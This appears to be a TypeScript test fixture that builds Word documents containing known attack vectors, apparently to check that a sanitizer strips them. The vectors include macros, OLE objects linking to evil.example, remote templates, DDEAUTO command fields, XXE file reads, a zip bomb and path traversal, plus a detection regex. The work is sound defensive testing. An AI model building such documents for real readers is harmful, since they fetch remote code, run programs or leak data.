import { strToU8, zipSync } from 'fflate';

const space = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

const types = (kind = main, more = '') =>
  `<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${kind}"/>${more}</Types>`;
const text = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${space}" xmlns:r="${relations}"><w:body><w:p><w:r><w:t>Ada Park</w:t></w:r></w:p>${body}</w:body></w:document>`;
const related = (...lines: string[]) => `<Relationships>${lines.join('')}</Relationships>`;
const outside = (kind: string, target: string, mode = 'External') =>
  `<Relationship Id="rId9" Type="${relations}/${kind}" Target="${target}" TargetMode="${mode}"/>`;
const inside = (kind: string, target: string) =>
  `<Relationship Id="rId9" Type="${relations}/${kind}" Target="${target}"/>`;

/** A Word document of one line; `parts` come on top or in place of the usual ones. */
export function aWordDocument(parts: Record<string, string | Uint8Array> = {}): Buffer {
  const all: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': types(),
    '_rels/.rels': related(`<Relationship Id="rId1" Type="${relations}/officeDocument" Target="word/document.xml"/>`),
    'word/document.xml': text(''),
    ...parts,
  };
  const bytes = Object.entries(all).map(([name, content]) => [
    name,
    typeof content === 'string' ? strToU8(content) : content,
  ]);
  return Buffer.from(zipSync(Object.fromEntries(bytes) as Record<string, Uint8Array>));
}

const withRelation = (line: string, body = '') =>
  aWordDocument({ 'word/document.xml': text(body), 'word/_rels/document.xml.rels': related(line) });
const settings = (line: string) =>
  aWordDocument({
    'word/settings.xml': `<w:settings xmlns:w="${space}" xmlns:r="${relations}"><w:attachedTemplate r:id="rId9"/></w:settings>`,
    'word/_rels/settings.xml.rels': related(line),
  });
const piece = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...words: string[]) =>
  aWordDocument({
    'word/document.xml': text(
      `<w:p>${mark('begin')}${words.map(piece).join('')}${mark('separate')}${mark('end')}</w:p>`,
    ),
  });

export const hostileDocuments: Record<string, Buffer> = {
  macros: aWordDocument({ 'word/vbaProject.bin': 'Sub AutoOpen EVIL' }),
  'macros under the name of a document': aWordDocument({
    '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
    'word/vbaProject.bin': 'EVIL',
    'word/vbaData.xml': '<wne:vbaSuppData>EVIL</wne:vbaSuppData>',
  }),
  'macros in another folder': aWordDocument({
    'word/more/code.bin': 'EVIL',
    'word/_rels/document.xml.rels': related(inside('vbaProject', 'more/code.bin')),
  }),
  'keys that start macros': aWordDocument({ 'word/customizations.xml': '<wne:tcg>EVIL</wne:tcg>' }),
  'a control': aWordDocument({ 'word/activeX/activeX1.xml': '<ax:ocx>EVIL</ax:ocx>' }),
  'a program inside': withRelation(
    inside('oleObject', 'embeddings/oleObject1.bin'),
    '<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9">EVIL</o:OLEObject></w:object>',
  ),
  'a program elsewhere': withRelation(
    outside('oleObject', 'file:///\\\\evil.example\\a.exe'),
    '<w:object><o:OLEObject Type="Link" r:id="rId9"/></w:object>',
  ),
  'a template elsewhere': settings(outside('attachedTemplate', 'https://evil.example/a.dotm')),
  'a template elsewhere, spelled': settings(outside('attachedTemplate', 'https://evil.example/a.dotm', '&#69;xternal')),
  'a picture that learns who reads': withRelation(
    outside('image', 'https://evil.example/a.png'),
    '<a:blip r:link="rId9"/>',
  ),
  'an old picture by its address': aWordDocument({
    'word/document.xml': text('<v:imagedata src="https://evil.example/a.png" o:href="https://evil.example/b"/>'),
  }),
  'a page inside': aWordDocument({
    'word/document.xml': text('<w:altChunk r:id="rId9"/>'),
    'word/afchunk.mht': '<script>EVIL</script>',
    'word/_rels/document.xml.rels': related(inside('aFChunk', 'afchunk.mht')),
  }),
  'another document': withRelation(outside('subDocument', 'https://evil.example/b.docx'), '<w:subDoc r:id="rId9"/>'),
  'a frame': withRelation(outside('frame', 'https://evil.example/c')),
  'a script as a link': withRelation(outside('hyperlink', 'javascript:alert(1)'), '<w:hyperlink r:id="rId9"/>'),
  'a file of the reader as a link': withRelation(outside('hyperlink', 'file:///c:/EVIL.exe')),
  'a program by a field': field('DDEAUTO c:\\\\windows\\\\EVIL.exe "/k calc"'),
  'a program by a field in pieces': field('DD', 'EA', 'UTO EVIL'),
  'a program by a field, spelled': field('&#68;DE EVIL'),
  'a program by a short field': aWordDocument({
    'word/document.xml': text(`<w:fldSimple w:instr='DDEAUTO "EVIL"'><w:r/></w:fldSimple>`),
  }),
  'a text from elsewhere': field('INCLUDETEXT "https://evil.example/d.docx"'),
  'a picture from elsewhere by a field': field('INCLUDEPICTURE "https://evil.example/d.png" \\d'),
  'a button that starts a macro': field('MACROBUTTON EVIL Click here'),
  'a field within a field': aWordDocument({
    'word/document.xml': text(
      `<w:p>${mark('begin')}${piece('QUOTE ')}${mark('begin')}${piece('DDE EVIL')}${mark('end')}${mark('end')}</w:p>`,
    ),
  }),
  'a declaration that says more': aWordDocument({
    'word/document.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/EVIL">]>${text('&e;')}`,
  }),
  'another encoding': aWordDocument({
    'word/document.xml': new Uint8Array(Buffer.from(`\ufeff${text('<w:altChunk r:id="EVIL"/>')}`, 'utf16le')),
  }),
  'ribbons of its own': aWordDocument({ 'customUI/customUI.xml': '<customUI onLoad="EVIL"/>' }),
  'who wrote it and where': aWordDocument({ 'docProps/core.xml': '<dc:creator>EVIL</dc:creator>' }),
  'a name that leaves the folder': aWordDocument({ '../../EVIL.xml': 'EVIL' }),
  'a bomb': aWordDocument({ 'word/document.xml': new Uint8Array(120 * 1024 * 1024) }),
  'no document at all': Buffer.from(zipSync({ 'notes.txt': strToU8('EVIL') })),
  'half of it': aWordDocument({ 'word/vbaProject.bin': 'EVIL' }).subarray(0, 300),
};

/** What must be in no part of a document that is handed to anyone. */
export const hostileInDocument =
  /EVIL|evil\.example|macroEnabled|vbaProject|activeX|OLEObject|oleObject|altChunk|attachedTemplate|subDoc|javascript:|file:|DDE|INCLUDE|MACROBUTTON|DOCTYPE/;
